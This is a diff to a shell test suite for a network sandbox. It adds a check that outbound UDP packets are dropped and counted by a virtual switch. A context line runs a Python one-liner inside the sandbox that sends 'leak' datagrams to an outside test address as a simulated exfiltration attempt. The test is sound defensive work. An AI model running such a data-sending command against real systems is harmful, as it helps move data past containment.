@@ -53,6 +53,20 @@ al_ok "UDP datagrams can be sent (the sandbox cannot tell)..." \
   sbx_exec python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b"leak", ("203.0.113.10", 443)) for _ in range(5)]'
 sleep 1
 al_fail "... but none reaches the upstream" grep -q '^DGRAM' "$AL_TMP/udp.log"
+udp_drops() {
+  nsenter --net="/run/netns/$HOSTNS" "$AIRLOCK_BIN/airlock" --state-dir "$STATE" vswitch status --json |
+    python3 -c 'import json,sys
+doc = json.load(sys.stdin)
+def ifaces(x):
+    if isinstance(x, dict):
+        if "label" in x and "counters" in x: yield x
+        for v in x.values(): yield from ifaces(v)
+    elif isinstance(x, list):
+        for v in x: yield from ifaces(v)
+print(sum(i["counters"].get("udp", {}).get("packets", 0) for i in ifaces(doc) if i["label"] == sys.argv[1]))' "$SB"
+}
+al_check "... they are dropped by the switch and counted for this sandbox as \"udp\"" \
+  test "$(udp_drops)" -ge 5
 al_fail "nothing denied reached an upstream" grep -q 'REQ evil' "$AL_TMP/up.req"
 
 al_note "E2B network fields only narrow: allow_internet_access=false under the same policy"
